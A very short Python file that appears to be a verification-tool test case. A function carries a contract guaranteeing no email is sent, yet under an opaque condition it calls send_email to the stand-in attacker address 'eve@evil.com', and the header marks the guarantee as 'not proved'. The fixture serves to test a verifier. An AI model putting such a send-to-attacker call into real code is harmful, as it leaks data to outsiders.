# not proved: nothing is known of it
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, opaque


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if opaque():
        send_email("eve@evil.com", "x")
